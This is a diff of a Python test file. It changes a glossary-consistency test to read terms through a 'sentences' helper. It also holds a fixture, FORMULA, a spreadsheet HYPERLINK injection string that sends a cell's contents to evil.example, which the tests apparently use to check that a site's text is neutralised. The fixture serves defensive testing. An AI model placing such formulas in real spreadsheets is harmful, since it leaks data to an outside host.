@@ -9,13 +9,13 @@ from pathlib import Path
 import pytest
 
 from flfed.records.reports.faults import holdout_in_words
-from flfed.records.reports.narrative import GLOSSARY
 from flfed.records.reports.report import report
 from flfed.records.reports.site_answer import site_line
 from flfed.records.store.entries import EventEntry, SiteRow
 from flfed.records.store.reader import RunReader
 from flfed.records.text import JOINER, escape, with_code
 from flfed.spreadsheet import plain_cell
+from flfed.words import sentences
 from tests.browser import Window
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
@@ -171,4 +171,5 @@ def test_a_sites_own_words_become_no_link_no_picture_and_no_formula(window: Wind
 
 def test_the_glossary_of_the_pages_is_that_of_the_documents():
     lines = (Path(__file__).resolve().parents[2] / "docs" / "glossary.md").read_text().splitlines()
-    assert [line for line in lines if line.startswith("| ")][1:] == [f"| {k} | {v} |" for k, v in GLOSSARY.items()]
+    terms = [f"| {term} | {meaning} |" for term, meaning in sentences("glossary", "terms").items()]
+    assert [line for line in lines if line.startswith("| ")][1:] == terms
